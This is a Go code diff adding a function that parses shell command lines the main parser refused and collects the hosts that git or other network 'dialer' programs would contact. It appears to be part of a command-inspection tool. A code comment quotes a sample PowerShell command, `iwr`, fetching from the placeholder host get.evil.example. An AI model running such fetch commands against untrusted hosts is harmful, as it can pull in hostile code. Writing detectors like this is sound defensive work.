@@ -365,6 +365,32 @@ func (c *collector) gitDialed(argv []string, known []bool) {
 	}
 }
 
+// refusedHosts adds the hosts a line read as words gives its dialers (one
+// the parser refused, as PowerShell's & { iwr get.evil.example } is, one
+// longer than MaxParsed, inline code that starts a process): each command between shell operators taken as
+// words without their quotes, a dialer's read from its name on.
+func (c *collector) refusedHosts(line string) {
+	for _, cmd := range strings.FieldsFunc(line, func(r rune) bool { return strings.ContainsRune(";&|()<>`{}\n", r) }) {
+		argv := strings.Fields(strings.Map(func(r rune) rune {
+			if strings.ContainsRune(`\'"`, r) {
+				return -1
+			}
+			return r
+		}, cmd))
+		for j, w := range argv {
+			if n := ProgramName(w); n == "git" || hasDialer(n) {
+				c.dialed(n, argv[j:], slices.Repeat([]bool{true}, len(argv)-j))
+				break
+			}
+		}
+	}
+}
+
+func hasDialer(name string) bool {
+	_, ok := dialers[name]
+	return ok
+}
+
 // psValueOptions are PowerShell's own options that take the next word
 // (powershell -ExecutionPolicy Bypass -Command …), lower-cased, with their
 // short forms.
